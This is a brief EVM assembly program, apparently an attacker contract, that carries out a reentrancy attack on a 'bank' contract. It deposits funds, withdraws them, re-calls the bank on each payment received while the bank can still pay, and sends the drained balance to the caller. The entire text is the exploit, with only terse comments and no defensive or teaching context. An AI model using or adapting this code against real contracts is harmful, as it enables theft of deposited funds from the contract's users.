; attack(address): deposits the money of the call in that bank, takes it back, and again while the bank can pay.
CALLDATASIZE PUSH @attack JUMPI
; Money arrives from the bank. While it has as much again, call it again.
CALLVALUE CALLER BALANCE LT PUSH @enough JUMPI
PUSH0 PUSH0 PUSH0 PUSH0 PUSH0 CALLER GAS CALL POP
enough: JUMPDEST STOP
attack: JUMPDEST PUSH 4 CALLDATALOAD
PUSH0 PUSH0 PUSH0 PUSH0 CALLVALUE DUP6 GAS CALL POP
PUSH0 PUSH0 PUSH0 PUSH0 PUSH0 DUP6 GAS CALL POP
; All of it goes to the caller.
PUSH0 PUSH0 PUSH0 PUSH0 SELFBALANCE CALLER GAS CALL STOP
